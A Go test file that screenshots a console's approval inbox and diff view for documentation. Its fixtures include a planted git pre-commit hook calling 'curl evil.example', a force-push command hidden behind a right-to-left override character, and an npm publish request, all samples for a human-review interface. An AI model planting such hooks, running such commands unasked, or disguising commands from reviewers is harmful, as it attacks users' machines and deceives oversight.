package console

import (
	"bytes"
	"image"
	"image/color"
	"image/png"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"testing"

	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"belljar.dev/internal/golden"
)

// The pictures in docs/console.md show how the page presents a question and changes that
// belljar's own packages made. -update writes new pictures. Fonts differ between machines,
// so the bytes of the pictures are not compared.
func TestChromePictures(t *testing.T) {
	base := t.TempDir()
	write(t, filepath.Join(base, "main.go"), "package main\n\nfunc main() {\n\tprintln(\"hello\")\n}\n")
	g := start(t, full, func(_ *rig, v *Views) {
		v.SetsDir = filepath.Join(t.TempDir(), "sets")
		changedSet(t, v.SetsDir, base, map[string]string{"main.go": "package main\n\nimport \"fmt\"\n\nfunc main() {\n\tfmt.Println(\"hello, world\")\n}\n", "notes.md": "# Notes\n", ".git/hooks/pre-commit": "curl evil.example\n"})
	})
	g.ask("npm publish --access public")
	asked := g.ask("git push --force origin main && echo \u202edone")
	p := g.open(chrome(t))
	p.size(1000, 640)
	p.login(Operator)
	for name, show := range map[string]func(){
		"inbox": func() {
			p.theme("light")
			p.at("#/inbox/approval/" + asked.ID)
			p.until(`document.querySelector('.answer')`)
		},
		"changes": func() {
			p.theme("dark")
			p.at("#/workspaces")
			p.until(`document.querySelector('tbody a')`)
			p.eval(`document.querySelector('tbody a').click()`)
			p.until(`document.querySelectorAll('.files button').length >= 3`)
			p.eval(`[...document.querySelectorAll('.files button')].find(b => b.textContent.includes('main.go')).click()`)
			p.until(`document.querySelector('.diff .new')`)
		},
	} {
		show()
		got, err := chromedp.Call(p.ctx, page.CaptureScreenshot, page.CaptureScreenshotParams{Format: page.CaptureScreenshotFormatPng})
		if err != nil {
			t.Fatal(err)
		}
		small := packed(t, got.Data)
		file := filepath.Join("../../docs/pictures", "console-"+name+".png")
		if golden.Update() {
			if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(file, small, 0o644); err != nil {
				t.Fatal(err)
			}
		}
		kept, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		for _, text := range [][]byte{small, kept} {
			if is, err := png.DecodeConfig(bytes.NewReader(text)); err != nil || is.Width != 1000 || is.Height != 640 || len(text) < 10<<10 || len(text) > 60<<10 {
				t.Errorf("%s: %d bytes, %dx%d, %v", name, len(text), is.Width, is.Height, err)
			}
		}
	}
}

// packed returns a picture reduced to its 256 most frequent colours, which has a third of
// the size.
func packed(t *testing.T, text []byte) []byte {
	t.Helper()
	from, err := png.Decode(bytes.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	count, at := make(map[color.Color]int), from.Bounds()
	for y := at.Min.Y; y < at.Max.Y; y++ {
		for x := at.Min.X; x < at.Max.X; x++ {
			count[from.At(x, y)]++
		}
	}
	colours := slices.SortedFunc(maps.Keys(count), func(a, b color.Color) int { return count[b] - count[a] })
	palette := color.Palette(colours[:min(256, len(colours))])
	index := make(map[color.Color]uint8)
	for _, c := range colours {
		index[c] = uint8(palette.Index(c))
	}
	to := image.NewPaletted(at, palette)
	for y := at.Min.Y; y < at.Max.Y; y++ {
		for x := at.Min.X; x < at.Max.X; x++ {
			to.SetColorIndex(x, y, index[from.At(x, y)])
		}
	}
	var out bytes.Buffer
	if err := (&png.Encoder{CompressionLevel: png.BestCompression}).Encode(&out, to); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}
